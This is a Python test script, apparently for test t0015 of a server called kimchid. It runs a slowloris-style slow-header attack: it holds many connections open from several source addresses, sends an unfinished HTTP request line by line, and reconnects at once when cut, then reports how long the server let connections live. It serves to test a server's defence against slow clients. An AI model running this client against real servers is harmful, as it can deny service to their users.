#!/usr/bin/env python3
"""slowloris.py - slow clients against kimchid, for t0015: from each source address, keeps
CONNS connections open that send a request header one line per second and never finish it;
a connection the server ends is opened again at once (as an attacker would), for SECONDS.
Prints one JSON object: per address, how many connections the server let live longer than
1 s at once at most ("held"), the longest life of a connection the server ended ("cut_s"),
and the age of the oldest still open at the end ("open_s")."""
import json
import selectors
import socket
import sys
import time

from sockloop import arrivals

host, port = sys.argv[1], int(sys.argv[2])
addrs = sys.argv[3].split(",")
conns, seconds = int(sys.argv[4]), float(sys.argv[5])

sel = selectors.DefaultSelector()
life = {}  # socket -> (address, opened at, last line sent at)
stats = {a: {"held": 0, "opened": 0, "cut_s": 0.0, "open_s": 0.0} for a in addrs}


def open_one(a):
    s = socket.socket()
    s.bind((a, 0))
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    sel.register(s, selectors.EVENT_READ)
    now = time.monotonic()
    life[s] = [a, now, now - 1, False]
    stats[a]["opened"] += 1


def close_one(s, by_server):
    a, opened, _, _ = life.pop(s)
    sel.unregister(s)
    s.close()
    k = "cut_s" if by_server else "open_s"
    stats[a][k] = round(max(stats[a][k], time.monotonic() - opened), 2)
    return a


for a in addrs:
    for _ in range(conns):
        open_one(a)
end = time.monotonic() + seconds
while time.monotonic() < end:
    for s, data in arrivals(sel):
        if not data:  # the server ended it: come back at once
            open_one(close_one(s, True))
    now = time.monotonic()
    held = {a: 0 for a in addrs}
    for s, st in list(life.items()):
        a, opened, last, started = st
        if now - opened > 1:
            held[a] += 1
        if now - last >= 1:
            line = b"GET /plugins/kimchi/vms HTTP/1.1\r\nHost: 127.0.0.1\r\n" if not started else b"X-Slow: 1\r\n"
            try:
                s.send(line)
                st[2], st[3] = now, True
            except OSError:
                pass
    for a in addrs:
        stats[a]["held"] = max(stats[a]["held"], held[a])
for s in list(life):
    close_one(s, False)
print(json.dumps(stats))
